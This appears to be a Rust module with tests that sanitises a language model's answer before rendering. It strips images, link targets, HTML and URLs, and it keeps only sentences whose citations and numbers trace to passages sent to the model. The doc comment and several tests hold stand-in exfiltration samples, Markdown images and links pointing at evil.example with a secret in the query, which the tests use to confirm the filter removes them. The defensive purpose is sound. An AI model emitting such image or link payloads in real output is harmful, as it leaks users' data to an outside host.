//! What of a model's reply may render: markup stripped (§8.5), then one sentence at a time, kept only if it cites a sent passage and its every number is in one it cites (§8.4, gate 14).
//!
//! The reply is untrusted text. It is read as Markdown by `pulldown-cmark`
//! and flattened to plain text: an image is removed whole, alt text and
//! all (`![](https://evil/?d=…)` is exfiltration without a tool); a link
//! keeps its words and loses its target; raw HTML is removed; a bare URL
//! anywhere in the text ([`URL_STARTS`], after a space, a colon or a line
//! break alike) is replaced by [`LINK_REMOVED`]. No link the model wrote is
//! ever rendered as one, to a suite host or any other: the answer's only
//! links are the citations memoria builds from its own list. What is left
//! is escaped when rendered.
//!
//! The text is then cut into sentences (Unicode's sentence boundaries,
//! UAX #29, by `unicode-segmentation`), a citation group that opens a
//! segment belonging to the sentence before it ("… rose. [2] The …").
//! Each sentence is judged on its own:
//!
//! - its citations are the `[n]` and `[n, m]` groups in it; a number that
//!   names no sent passage is removed from the sentence's citations;
//! - a sentence left citing nothing is dropped ([`Dropped::uncited`],
//!   [`Dropped::unknown`]);
//! - every number in the sentence (a run of digits with `,` or `.` between
//!   digits, the citations aside) must occur byte for byte in a passage it
//!   cites, as a whole number and not inside a longer one, or the sentence
//!   is dropped ([`Dropped::untraced`]): memoria
//!   never does arithmetic (decision 10), and a model's number is not a
//!   cell's.

use pulldown_cmark::{Event, Parser, Tag, TagEnd};
use unicode_segmentation::UnicodeSegmentation as _;

/// What replaces a bare URL in model output (§8.5: links refused).
pub const LINK_REMOVED: &str = "(link removed)";

/// The most sentences an answer renders, in order; the rest are dropped
/// and counted ([`Dropped::over`]). §8.6 budgets ~500 tokens out for "one
/// paragraph"; twelve sentences is a long paragraph. This project's number.
pub const ANSWER_SENTENCES_MAX: usize = 12;

/// One passage as the model was shown it: the id it cites (its rank on the
/// list) and its text, which the sentence's numbers are traced to.
#[derive(Clone, PartialEq, Eq)]
pub struct SentPassage {
    /// The rank on the citation list, from 1: the `[n]` the model cites.
    pub rank: usize,
    /// The passage's text as sent.
    pub text: String,
}

impl std::fmt::Debug for SentPassage {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "SentPassage({}, {} bytes)", self.rank, self.text.len())
    }
}

/// One sentence that may render: its text with its citation groups taken
/// out, and the ranks it cites, in the order it cites them, each once.
#[derive(Clone, PartialEq, Eq)]
pub struct Sentence {
    /// The sentence's words, markup stripped, citations removed, trimmed.
    pub text: String,
    /// The ranks cited, each a passage that was sent. Never empty.
    pub cites: Vec<usize>,
}

impl std::fmt::Debug for Sentence {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "Sentence({} bytes, cites {:?})",
            self.text.len(),
            self.cites
        )
    }
}

/// The sentences dropped, by why (§8.4: "a sentence citing nothing is
/// dropped before render").
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Dropped {
    /// Sentences with no citation at all.
    pub uncited: usize,
    /// Sentences whose every citation named a passage that was not sent.
    pub unknown: usize,
    /// Sentences with a number found in no passage they cite.
    pub untraced: usize,
    /// Sentences past [`ANSWER_SENTENCES_MAX`].
    pub over: usize,
}

impl Dropped {
    /// Every dropped sentence.
    pub fn total(&self) -> usize {
        self.uncited + self.unknown + self.untraced + self.over
    }
}

/// The markup removed from the reply before it was read (§8.5).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Stripped {
    /// Images removed, alt text and all.
    pub images: usize,
    /// Links whose target was removed (their words kept).
    pub links: usize,
    /// Bare URLs replaced by [`LINK_REMOVED`].
    pub urls: usize,
    /// Raw HTML fragments removed.
    pub html: usize,
}

impl Stripped {
    /// Anything removed at all.
    pub fn any(&self) -> bool {
        self.images + self.links + self.urls + self.html > 0
    }
}

/// A reply judged: what may render, and what did not and why.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Judged {
    /// The sentences that may render, in the reply's order.
    pub sentences: Vec<Sentence>,
    /// What was dropped.
    pub dropped: Dropped,
    /// What markup was stripped.
    pub stripped: Stripped,
}

/// Judges `reply` against the passages that were sent (module doc).
/// Total: any string gives a [`Judged`], possibly with no sentence.
pub fn judge(reply: &str, sent: &[SentPassage]) -> Judged {
    let (plain, stripped) = flatten(reply);
    let mut judged = Judged {
        stripped,
        ..Judged::default()
    };
    for raw in sentences(&plain) {
        let (text, cited) = take_citations(&raw);
        // A terminator left behind a removed group ("rose [2].") sits
        // after a space once the spaces are collapsed.
        let text = text
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
            .replace(" .", ".")
            .replace(" ,", ",");
        if text.is_empty() && cited.is_empty() {
            continue;
        }
        if cited.is_empty() {
            judged.dropped.uncited += 1;
            continue;
        }
        let mut cites: Vec<usize> = Vec::new();
        for c in cited {
            if sent.iter().any(|p| p.rank == c) && !cites.contains(&c) {
                cites.push(c);
            }
        }
        if cites.is_empty() {
            judged.dropped.unknown += 1;
            continue;
        }
        if text.is_empty() {
            // A citation with no words cites nothing a reader can read.
            judged.dropped.uncited += 1;
            continue;
        }
        let traced = numbers(&text).iter().all(|n| {
            cites.iter().any(|c| {
                sent.iter()
                    .any(|p| p.rank == *c && holds_number(&p.text, n))
            })
        });
        if !traced {
            judged.dropped.untraced += 1;
            continue;
        }
        if judged.sentences.len() == ANSWER_SENTENCES_MAX {
            judged.dropped.over += 1;
            continue;
        }
        judged.sentences.push(Sentence { text, cites });
    }
    judged
}

/// The reply as plain text: Markdown read and flattened, images, link
/// targets, raw HTML and bare URLs removed (§8.5).
fn flatten(reply: &str) -> (String, Stripped) {
    let mut out = String::with_capacity(reply.len());
    let mut stripped = Stripped::default();
    let mut in_image = 0usize;
    for event in Parser::new(reply) {
        match event {
            Event::Start(Tag::Image { .. }) => {
                in_image += 1;
                stripped.images += 1;
            }
            Event::End(TagEnd::Image) => in_image = in_image.saturating_sub(1),
            _ if in_image > 0 => {}
            Event::Start(Tag::Link { .. }) => stripped.links += 1,
            Event::Text(t) | Event::Code(t) => out.push_str(&t),
            Event::Html(_) | Event::InlineHtml(_) => stripped.html += 1,
            Event::SoftBreak | Event::HardBreak => out.push(' '),
            Event::End(TagEnd::Paragraph | TagEnd::Heading(_) | TagEnd::Item) => {
                out.push('\n');
            }
            _ => {}
        }
    }
    let (text, urls) = remove_urls(&out);
    stripped.urls = urls;
    (text, stripped)
}

/// The starts of a URL, matched anywhere in a word and in any case: after
/// a colon, a bracket, a quote or a line break as well as after a space.
pub const URL_STARTS: [&str; 3] = ["http://", "https://", "www."];

/// `text` with every URL (from one of [`URL_STARTS`] to the next
/// whitespace) replaced by [`LINK_REMOVED`], and how many were.
fn remove_urls(text: &str) -> (String, usize) {
    let lower = text.to_ascii_lowercase();
    let mut out = String::with_capacity(text.len());
    let (mut i, mut removed) = (0, 0);
    while i < text.len() {
        if URL_STARTS.iter().any(|u| lower[i..].starts_with(u)) {
            let end = text[i..]
                .find(char::is_whitespace)
                .map_or(text.len(), |k| i + k);
            out.push_str(LINK_REMOVED);
            removed += 1;
            i = end;
            continue;
        }
        let c = text[i..]
            .chars()
            .next()
            .expect("i is on a boundary below the length");
        out.push(c);
        i += c.len_utf8();
    }
    (out, removed)
}

/// True if `number` occurs in `passage` as a whole number: not inside a
/// longer one ("100" is not in "1,100", "7" not in "2024").
fn holds_number(passage: &str, number: &str) -> bool {
    let part_of_number = |c: Option<char>, beyond: Option<char>| match c {
        Some(c) if c.is_numeric() => true,
        Some(',' | '.') => beyond.is_some_and(char::is_numeric),
        _ => false,
    };
    passage.match_indices(number).any(|(at, _)| {
        let mut before = passage[..at].chars().rev();
        let mut after = passage[at + number.len()..].chars();
        let (b1, b2) = (before.next(), before.next());
        let (a1, a2) = (after.next(), after.next());
        !part_of_number(b1, b2) && !part_of_number(a1, a2)
    })
}

/// The text cut after every citation group that ends a sentence: the
/// group, then an optional `.`, `!` or `?`, then whitespace or the end.
/// UAX #29 does not break before a lower-case word ("floor [1]. thistle
/// runs"), which would merge two cited sentences into one citing both.
fn cut_after_citations(text: &str) -> Vec<&str> {
    let mut pieces = Vec::new();
    let (mut start, mut i) = (0, 0);
    while i < text.len() {
        if let Some((_, len)) = citation_at(&text[i..]) {
            let mut end = i + len;
            if text[end..].starts_with(['.', '!', '?']) {
                end += 1;
            }
            if text[end..].is_empty() || text[end..].starts_with(char::is_whitespace) {
                pieces.push(&text[start..end]);
                start = end;
            }
            i = end;
            continue;
        }
        i += text[i..].chars().next().map_or(1, char::len_utf8);
    }
    pieces.push(&text[start..]);
    pieces
}

/// The text's sentences: cut after each sentence-ending citation group,
/// then by UAX #29, a citation group that opens a segment moved to the
/// sentence before it.
fn sentences(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for segment in cut_after_citations(text)
        .into_iter()
        .flat_map(|piece| piece.split_sentence_bounds())
    {
        let mut rest = segment;
        let mut lead = String::new();
        loop {
            let trimmed = rest.trim_start();
            match citation_at(trimmed) {
                Some((_, len)) if !out.is_empty() => {
                    lead.push(' ');
                    lead.push_str(&trimmed[..len]);
                    rest = &trimmed[len..];
                }
                _ => break,
            }
        }
        if let Some(last) = out.last_mut() {
            last.push_str(&lead);
        }
        if !rest.trim().is_empty() {
            out.push(rest.to_string());
        }
    }
    out
}

/// A citation group at the start of `s`: `[n]` or `[n, m, …]`, the ranks
/// and the group's length in bytes.
fn citation_at(s: &str) -> Option<(Vec<usize>, usize)> {
    let inner = s.strip_prefix('[')?;
    let close = inner.find(']')?;
    let body = &inner[..close];
    if body.is_empty()
        || !body
            .chars()
            .all(|c| c.is_ascii_digit() || c == ',' || c == ' ')
    {
        return None;
    }
    let mut ranks = Vec::new();
    for part in body.split(',') {
        let part = part.trim();
        if part.is_empty() || part.len() > 3 {
            return None;
        }
        ranks.push(part.parse().ok()?);
    }
    Some((ranks, close + 2))
}

/// The sentence without its citation groups, and the ranks they name in
/// order.
fn take_citations(sentence: &str) -> (String, Vec<usize>) {
    let mut text = String::with_capacity(sentence.len());
    let mut cited = Vec::new();
    let mut i = 0;
    while i < sentence.len() {
        let rest = &sentence[i..];
        if let Some((ranks, len)) = citation_at(rest) {
            cited.extend(ranks);
            i += len;
            continue;
        }
        let c = rest
            .chars()
            .next()
            .expect("i is below the length on a boundary");
        text.push(c);
        i += c.len_utf8();
    }
    (text, cited)
}

/// Every number in `text`: maximal runs of numeric characters, with a `,`
/// or `.` kept only between two of them.
fn numbers(text: &str) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if !chars[i].is_numeric() {
            i += 1;
            continue;
        }
        let mut n = String::new();
        while i < chars.len() {
            let c = chars[i];
            let separator =
                (c == ',' || c == '.') && chars.get(i + 1).is_some_and(|d| d.is_numeric());
            if c.is_numeric() || separator {
                n.push(c);
                i += 1;
            } else {
                break;
            }
        }
        out.push(n);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sent(texts: &[&str]) -> Vec<SentPassage> {
        texts
            .iter()
            .enumerate()
            .map(|(i, t)| SentPassage {
                rank: i + 1,
                text: (*t).to_string(),
            })
            .collect()
    }

    fn texts(j: &Judged) -> Vec<(String, Vec<usize>)> {
        j.sentences
            .iter()
            .map(|s| (s.text.clone(), s.cites.clone()))
            .collect()
    }

    #[test]
    fn a_sentence_keeps_its_citations_and_loses_their_brackets() {
        let j = judge(
            "The budget was approved in March [1]. Travel is capped [2, 3].",
            &sent(&["approved in March", "travel cap", "capped"]),
        );
        assert_eq!(
            texts(&j),
            vec![
                ("The budget was approved in March.".to_string(), vec![1]),
                ("Travel is capped.".to_string(), vec![2, 3]),
            ]
        );
        assert_eq!(j.dropped, Dropped::default());
    }

    #[test]
    fn a_citation_after_the_full_stop_belongs_to_the_sentence_before_it() {
        let j = judge(
            "The budget was approved. [2] Travel is capped. [1][2]",
            &sent(&["a", "b"]),
        );
        assert_eq!(
            texts(&j),
            vec![
                ("The budget was approved.".to_string(), vec![2]),
                ("Travel is capped.".to_string(), vec![1, 2]),
            ]
        );
    }

    #[test]
    fn a_citation_group_ends_its_sentence_even_before_a_lower_case_word() {
        let j = judge(
            "Fourteen rooms on the second floor [1]. thistle runs the site [2].",
            &sent(&["a", "b"]),
        );
        assert_eq!(
            texts(&j),
            vec![
                ("Fourteen rooms on the second floor.".to_string(), vec![1]),
                ("thistle runs the site.".to_string(), vec![2]),
            ]
        );
    }

    #[test]
    fn a_sentence_citing_nothing_or_only_unsent_passages_is_dropped_and_counted() {
        let j = judge(
            "Nothing cited here. Only a ninth passage [9]. A kept one [1].",
            &sent(&["x"]),
        );
        assert_eq!(texts(&j), vec![("A kept one.".to_string(), vec![1])]);
        assert_eq!(j.dropped.uncited, 1);
        assert_eq!(j.dropped.unknown, 1);
    }

    #[test]
    fn an_unsent_rank_is_removed_from_a_sentence_that_also_cites_a_sent_one() {
        let j = judge("Both named [1, 9].", &sent(&["x"]));
        assert_eq!(texts(&j), vec![("Both named.".to_string(), vec![1])]);
    }

    #[test]
    fn a_number_must_be_in_a_passage_the_sentence_cites_byte_for_byte() {
        let s = sent(&["Revenue was 1,350 in June.", "Costs were 400."]);
        let j = judge(
            "Revenue was 1,350 [1]. Revenue was 1,350 [2]. Revenue was 1350 [1]. The sum is 1,750 [1, 2].",
            &s,
        );
        assert_eq!(texts(&j), vec![("Revenue was 1,350.".to_string(), vec![1])]);
        assert_eq!(j.dropped.untraced, 3);
    }

    #[test]
    fn a_remote_image_is_removed_whole_and_a_link_keeps_only_its_words() {
        let j = judge(
            "See the plan ![x](https://evil.example/?d=secret) [1]. Read [the doc](https://evil.example/a) now [1]. Or https://evil.example/b itself [1]. <img src=x> Done [1].",
            &sent(&["plan"]),
        );
        let rendered: Vec<String> = j.sentences.iter().map(|s| s.text.clone()).collect();
        assert_eq!(
            rendered,
            vec![
                "See the plan.".to_string(),
                "Read the doc now.".to_string(),
                format!("Or {LINK_REMOVED} itself."),
                "Done.".to_string(),
            ]
        );
        for s in &rendered {
            assert!(!s.contains("evil") && !s.contains("secret") && !s.contains('<'));
        }
        assert_eq!(
            j.stripped,
            Stripped {
                images: 1,
                links: 1,
                urls: 1,
                html: 1
            }
        );
    }

    #[test]
    fn an_empty_or_markup_only_reply_gives_no_sentence_and_never_panics() {
        for reply in [
            "",
            "   ",
            "![](http://x/y)",
            "[",
            "]]]",
            "[1]",
            "\u{0}\u{feff}",
            "1.2.3.4",
        ] {
            let j = judge(reply, &sent(&["x"]));
            assert!(j.sentences.is_empty(), "{reply:?}");
        }
    }

    #[test]
    fn sentences_past_the_cap_are_dropped_and_counted() {
        let reply = "A point [1]. ".repeat(ANSWER_SENTENCES_MAX + 3);
        let j = judge(&reply, &sent(&["x"]));
        assert_eq!(j.sentences.len(), ANSWER_SENTENCES_MAX);
        assert_eq!(j.dropped.over, 3);
    }

    #[test]
    fn a_number_inside_a_longer_one_is_not_traced() {
        let s = sent(&["The budget was 1,100 in 2024."]);
        let j = judge(
            "It was 100 [1]. It was 1,100 [1]. In 202 [1]. In 2024 [1].",
            &s,
        );
        assert_eq!(
            texts(&j),
            vec![
                ("It was 1,100.".to_string(), vec![1]),
                ("In 2024.".to_string(), vec![1])
            ]
        );
        assert_eq!(j.dropped.untraced, 2);
    }

    #[test]
    fn a_url_is_removed_after_a_line_break_a_colon_or_in_capitals() {
        let j = judge(
            "First [1].\n\nhttps://evil.example/x holds it [1]. See:https://evil.example/c [1]. Or WWW.EVIL.EXAMPLE/w [1].",
            &sent(&["x"]),
        );
        for s in &j.sentences {
            assert!(
                !s.text.to_ascii_lowercase().contains("evil"),
                "{:?}",
                s.text
            );
        }
        assert_eq!(j.sentences.len(), 4);
        assert_eq!(j.stripped.urls, 3);
    }

    #[test]
    fn numbers_are_maximal_runs_with_inner_separators_only() {
        assert_eq!(
            numbers("In 2024, 1,350.5 rose to 7."),
            vec!["2024", "1,350.5", "7"]
        );
        assert_eq!(numbers("no digits"), Vec::<String>::new());
        assert_eq!(numbers("٣ apples"), vec!["٣"]);
    }
}
